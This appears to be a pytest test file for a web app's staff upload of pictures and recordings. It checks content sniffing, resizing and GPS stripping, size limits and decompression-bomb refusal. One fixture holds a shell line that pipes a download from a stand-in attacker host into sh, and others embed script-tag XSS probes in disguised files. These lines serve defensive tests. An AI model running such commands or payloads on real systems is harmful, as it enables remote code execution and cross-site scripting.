"""Pictures and recordings uploaded by staff: the bytes decide what a file is,
pictures are made phone-sized and lose their metadata, recordings are served
as uploaded, and a refused file leaves nothing behind."""
from __future__ import annotations

import io
import os
from pathlib import Path

import pytest
from PIL import Image
from sqlalchemy import select
from werkzeug.datastructures import FileStorage

from models import Page, PageMedia
from tests.staff_helpers import post
from webapp.content.uploads import sniff, store_upload

AUDIO = Path(__file__).parents[1] / "fixtures" / "audio"
MB = 1024 * 1024


@pytest.fixture()
def page(db_session) -> Page:
    return db_session.scalar(select(Page).where(Page.slug == "frikort"))


@pytest.fixture()
def nurse(staff_client):
    return staff_client("nurse")


def upload(client, page, content: bytes, name: str, *, lang: str = "", alt_text: str = "A fee-exemption card",
           mimetype: str | None = None):
    file = (io.BytesIO(content), name, mimetype) if mimetype else (io.BytesIO(content), name)
    return post(
        client, f"/staff/pages/{page.id}/media",
        {"file": file, "lang": lang, "alt_text": alt_text}, content_type="multipart/form-data",
    )


def media_rows(db_session, page) -> list[PageMedia]:
    return list(db_session.scalars(select(PageMedia).where(PageMedia.page_id == page.id)))


def stored_files(app) -> list[Path]:
    folder = Path(app.instance_path) / "media"
    return sorted(folder.iterdir()) if folder.exists() else []


def assert_nothing_stored(app, db_session, page):
    assert media_rows(db_session, page) == []
    assert stored_files(app) == []


def only_media(db_session, page) -> PageMedia:
    [media] = media_rows(db_session, page)
    return media


def noise(size: tuple[int, int], mode: str = "RGB") -> Image.Image:
    """A picture that compresses badly, so its file is big."""
    return Image.frombytes(mode, size, os.urandom(size[0] * size[1] * len(mode)))


def encoded(image: Image.Image, fmt: str, **options) -> bytes:
    out = io.BytesIO()
    image.save(out, fmt, **options)
    return out.getvalue()


def served(client, media: PageMedia):
    response = client.get(f"/media/{media.id}/{media.filename}")
    assert response.status_code == 200
    assert "max-age=31536000" in response.headers["Cache-Control"]
    return response


# --- refused, and nothing left behind ----------------------------------------


def test_a_script_renamed_png_is_refused_with_a_clear_message(app, db_session, page, nurse):
    script = b"#!/bin/sh\ncurl https://evil.example/x | sh\n"
    response = upload(nurse, page, script, "photo.png", mimetype="image/png")
    assert response.status_code == 422
    html = response.get_data(as_text=True)
    assert "This kind of file cannot be used" in html
    assert "JPEG, PNG or WebP" in html and "MP3, OGG or M4A" in html
    assert_nothing_stored(app, db_session, page)


def test_html_disguised_as_a_picture_or_recording_is_refused(app, db_session, page, nurse):
    for content, name in [
        (b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", "x.jpg"),
        (b"ID3\x04\x00\x00\x00\x00\x00\x00<script>alert(1)</script>", "x.mp3"),  # a tag, no audio
        (b"GIF89a\x01\x00\x01\x00", "x.gif"),
    ]:
        response = upload(nurse, page, content, name)
        assert response.status_code == 422, name
    assert_nothing_stored(app, db_session, page)


def test_an_empty_file_or_no_file_is_refused(app, db_session, page, nurse):
    response = upload(nurse, page, b"", "empty.jpg")
    assert response.status_code == 422 and "The file is empty." in response.get_data(as_text=True)
    response = post(nurse, f"/staff/pages/{page.id}/media", {"lang": "", "alt_text": "x"},
                    content_type="multipart/form-data")
    assert response.status_code == 422
    assert "Please choose a file to upload." in response.get_data(as_text=True)
    assert_nothing_stored(app, db_session, page)


def test_a_picture_over_8_mb_is_refused(app, db_session, page, nurse):
    too_big = encoded(noise((16, 16)), "PNG") + b"\0" * (8 * MB)
    response = upload(nurse, page, too_big, "big.png")
    assert response.status_code == 422
    assert "This picture is too large: at most 8 MB." in response.get_data(as_text=True)
    assert_nothing_stored(app, db_session, page)


def test_a_recording_over_20_mb_is_refused(app, db_session, page, nurse):
    too_big = (AUDIO / "tone.mp3").read_bytes() + b"\0" * (20 * MB)
    response = upload(nurse, page, too_big, "long.mp3")
    assert response.status_code == 422
    assert "This recording is too large: at most 20 MB." in response.get_data(as_text=True)
    assert_nothing_stored(app, db_session, page)


def test_a_request_over_the_upload_limit_gets_413_and_the_editor_with_a_message(app, db_session, page, nurse):
    response = upload(nurse, page, b"\0" * (22 * MB), "huge.m4a")
    assert response.status_code == 413
    html = response.get_data(as_text=True)
    assert "This file is too large: pictures at most 8 MB, recordings at most 20 MB." in html
    assert 'id="media"' in html  # the editor again, not a bare error page
    assert_nothing_stored(app, db_session, page)


def test_other_forms_keep_the_1_mb_limit(page, nurse):
    response = post(nurse, f"/staff/pages/{page.id}/source", {"title": "x", "body": "y" * (2 * MB)})
    assert response.status_code == 413


def test_a_truncated_or_damaged_png_is_refused(app, db_session, page, nurse):
    png = encoded(noise((300, 200)), "PNG")
    truncated = png[: len(png) // 2]
    damaged = bytearray(png)
    damaged[len(png) // 2] ^= 0xFF  # the checksum of that chunk no longer matches
    for content in (truncated, bytes(damaged)):
        response = upload(nurse, page, content, "card.png")
        assert response.status_code == 422
        assert "This picture could not be read" in response.get_data(as_text=True)
    assert_nothing_stored(app, db_session, page)


def test_a_truncated_jpeg_is_refused(app, db_session, page, nurse):
    jpeg = encoded(noise((300, 200)), "JPEG")
    response = upload(nurse, page, jpeg[: len(jpeg) // 2], "card.jpg")
    assert response.status_code == 422
    assert "This picture could not be read" in response.get_data(as_text=True)
    assert_nothing_stored(app, db_session, page)


@pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")
def test_a_decompression_bomb_is_refused_before_it_is_decoded(app, db_session, page, nurse, monkeypatch):
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", 10_000)
    # Over twice the limit Pillow raises, between once and twice it only warns: both refused.
    for size in [(200, 200), (120, 120)]:
        response = upload(nurse, page, encoded(Image.new("RGB", size), "PNG"), "bomb.png")
        assert response.status_code == 422, size
        assert "too many pixels" in response.get_data(as_text=True)
    assert_nothing_stored(app, db_session, page)


def test_a_picture_needs_a_description_and_a_language_must_be_enabled(app, db_session, page, nurse):
    png = encoded(noise((20, 20)), "PNG")
    response = upload(nurse, page, png, "card.png", alt_text="  ")
    assert response.status_code == 422
    assert "Please describe what the picture shows" in response.get_data(as_text=True)
    response = upload(nurse, page, png, "card.png", lang="xx")
    assert response.status_code == 422
    assert_nothing_stored(app, db_session, page)


def test_only_editors_may_upload(app, db_session, page, staff_client):
    host = staff_client("host")
    assert upload(host, page, encoded(noise((20, 20)), "PNG"), "card.png").status_code == 403
    assert_nothing_stored(app, db_session, page)


def test_a_file_is_removed_again_when_its_row_cannot_be_saved(app, db_session, page, tmp_path, monkeypatch):
    def database_gone(*args, **kwargs):
        raise RuntimeError("database gone")

    monkeypatch.setattr(db_session, "flush", database_gone)
    recording = FileStorage(io.BytesIO((AUDIO / "tone.ogg").read_bytes()), filename="a.ogg")
    with app.test_request_context(), pytest.raises(RuntimeError):
        store_upload(db_session, page, recording, lang="ti", alt_text="", media_dir=tmp_path / "media")
    assert list((tmp_path / "media").iterdir()) == []
    monkeypatch.undo()
    db_session.rollback()


# --- pictures: upright, phone-sized, without metadata -------------------------


def test_a_phone_photo_is_turned_upright_shrunk_and_stripped_of_gps(app, client, db_session, page, nurse):
    photo = noise((2400, 1800))
    exif = Image.Exif()
    exif[0x0112] = 6  # Orientation: the camera was held upright, the picture must be turned
    exif[0x010F] = "PhoneMaker"
    exif[0x8825] = {1: "N", 2: (59.0, 54.0, 47.8), 3: "E", 4: (10.0, 45.0, 9.6)}  # GPS: where it was taken
    original = encoded(photo, "JPEG", quality=95, exif=exif)
    assert len(original) > MB  # more than the app's 1 MB limit for other forms
    assert Image.open(io.BytesIO(original)).getexif().get_ifd(0x8825)

    response = upload(nurse, page, original, "IMG_0001.JPG", alt_text="The card, front side")
    assert response.status_code == 302
    assert response.headers["Location"].endswith("#media")

    media = only_media(db_session, page)
    assert (media.kind, media.mime_type, media.lang) == ("image", "image/jpeg", None)
    assert media.alt_text == "The card, front side"
    assert media.filename.endswith(".jpg") and "IMG_0001" not in media.filename
    assert stored_files(app) == [Path(app.instance_path) / "media" / media.filename]

    body = served(client, media).data
    assert len(body) == media.byte_size < len(original)
    stored = Image.open(io.BytesIO(body))
    assert stored.format == "JPEG"
    assert stored.size == (720, 960)  # portrait, as the camera was held; long side 960
    assert not stored.getexif() and "exif" not in stored.info
    assert b"Exif" not in body and b"PhoneMaker" not in body


def test_a_png_with_transparency_stays_png_and_is_shrunk(app, client, db_session, page, nurse):
    logo = Image.new("RGBA", (1500, 600), (0, 0, 0, 0))
    logo.paste((200, 30, 30, 255), (100, 100, 1400, 500))
    content = encoded(logo, "PNG")
    assert upload(nurse, page, content, "logo.png", lang="ti").status_code == 302

    media = only_media(db_session, page)
    assert (media.mime_type, media.lang) == ("image/png", "ti") and media.filename.endswith(".png")
    response = served(client, media)
    assert response.mimetype == "image/png"
    stored = Image.open(io.BytesIO(response.data))
    assert (stored.format, stored.mode, stored.size) == ("PNG", "RGBA", (960, 384))
    assert stored.getpixel((0, 0))[3] == 0


def test_an_opaque_png_and_a_webp_become_phone_sized_jpegs(app, client, db_session, page, nurse):
    assert upload(nurse, page, encoded(noise((1000, 1000)), "PNG"), "scan.png").status_code == 302
    assert upload(nurse, page, encoded(noise((500, 1200)), "WEBP"), "photo.webp").status_code == 302
    sizes = []
    for media in sorted(media_rows(db_session, page), key=lambda m: m.position):
        assert media.mime_type == "image/jpeg"
        stored = Image.open(io.BytesIO(served(client, media).data))
        sizes.append((stored.format, stored.size))
    assert sizes == [("JPEG", (960, 960)), ("JPEG", (400, 960))]


def test_the_editor_lists_the_media_and_can_remove_them(app, client, db_session, page, nurse):
    response = upload(nurse, page, encoded(noise((40, 30)), "PNG"), "a.png", alt_text="Bus stop")
    assert response.status_code == 302
    media = only_media(db_session, page)
    html = nurse.get(f"/staff/pages/{page.id}").get_data(as_text=True)
    preview = f"/staff/media/{media.id}"
    assert f'src="{preview}" alt="Bus stop"' in html
    assert nurse.get(preview).data == (Path(app.instance_path) / "media" / media.filename).read_bytes()

    response = post(nurse, f"/staff/media/{media.id}/delete")
    assert response.status_code == 302
    assert_nothing_stored(app, db_session, page)
    assert client.get(f"/media/{media.id}/{media.filename}").status_code == 404
    assert post(nurse, f"/staff/media/{media.id}/delete").status_code == 404


def test_the_editor_previews_media_of_an_unpublished_page(app, client, db_session, page, nurse):
    page.published = False
    db_session.flush()
    assert upload(nurse, page, encoded(noise((40, 30)), "PNG"), "a.png").status_code == 302
    media = only_media(db_session, page)
    assert client.get(f"/media/{media.id}/{media.filename}").status_code == 404  # residents: not yet
    assert nurse.get(f"/staff/media/{media.id}").status_code == 200


# --- recordings: served as uploaded, with the right type -----------------------


def mp3_without_id3_tag() -> bytes:
    data = (AUDIO / "tone.mp3").read_bytes()
    assert data.startswith(b"ID3")
    size = data[6] << 21 | data[7] << 14 | data[8] << 7 | data[9]
    return data[10 + size:]


@pytest.mark.parametrize(("content", "mimetype", "extension"), [
    ((AUDIO / "tone.mp3").read_bytes(), "audio/mpeg", ".mp3"),
    (mp3_without_id3_tag(), "audio/mpeg", ".mp3"),
    ((AUDIO / "tone.ogg").read_bytes(), "audio/ogg", ".ogg"),
    ((AUDIO / "tone.m4a").read_bytes(), "audio/mp4", ".m4a"),
], ids=["mp3-id3", "mp3-frame-sync", "ogg-vorbis", "m4a-aac"])
def test_a_recording_is_kept_as_uploaded_and_served_with_its_type(
    app, client, db_session, page, nurse, content, mimetype, extension
):
    # The name and the browser's type say nothing: the bytes decide.
    response = upload(nurse, page, content, "recording.bin", lang="ti", alt_text="", mimetype="text/plain")
    assert response.status_code == 302
    media = only_media(db_session, page)
    assert (media.kind, media.mime_type, media.lang) == ("audio", mimetype, "ti")
    assert media.filename.endswith(extension) and media.byte_size == len(content)
    response = served(client, media)
    assert response.mimetype == mimetype
    assert response.data == content


def test_a_tigrinya_recording_is_offered_on_the_tigrinya_page_only(app, client, db_session, page, nurse):
    upload(nurse, page, (AUDIO / "tone.ogg").read_bytes(), "ti.ogg", lang="ti")
    media = only_media(db_session, page)
    url = f"/media/{media.id}/{media.filename}"
    tigrinya = client.get(f"/ti/demo/pages/{page.slug}").get_data(as_text=True)
    assert f'<audio controls preload="none" src="{url}">' in tigrinya
    arabic = client.get(f"/ar/demo/pages/{page.slug}").get_data(as_text=True)
    assert url not in arabic and "<audio" not in arabic


# --- what the bytes are --------------------------------------------------------


def box(kind: bytes, payload: bytes = b"") -> bytes:
    return (8 + len(payload)).to_bytes(4, "big") + kind + payload


def mp4_with_tracks(*handlers: bytes) -> bytes:
    tracks = b"".join(
        box(b"trak", box(b"mdia", box(b"hdlr", b"\0" * 8 + handler + b"\0" * 12))) for handler in handlers
    )
    return box(b"ftyp", b"isom\0\0\2\0isommp42") + box(b"moov", tracks)


def test_sniffing_goes_by_content():
    assert sniff(mp4_with_tracks(b"soun")).mime_type == "audio/mp4"
    assert sniff(mp4_with_tracks(b"vide", b"soun")) is None  # a video is not a recording
    assert sniff(box(b"ftyp", b"qt  \0\0\0\0qt  ") + box(b"moov")) is None
    assert sniff(b"OggS\0\2" + b"\0" * 20 + b"\1\x1e" + b"\x80theora") is None  # Ogg video
    assert sniff(b"RIFF\0\0\0\0WAVEfmt ") is None
    assert sniff(b"\xff\xfb\x90\x64" + b"\0" * 100).mime_type == "audio/mpeg"
    assert sniff(b"\xff\xf1\x50\x80" + b"\0" * 100) is None  # AAC in ADTS, not MP3
    assert sniff(b"%PDF-1.7\n") is None
    assert sniff(b"") is None
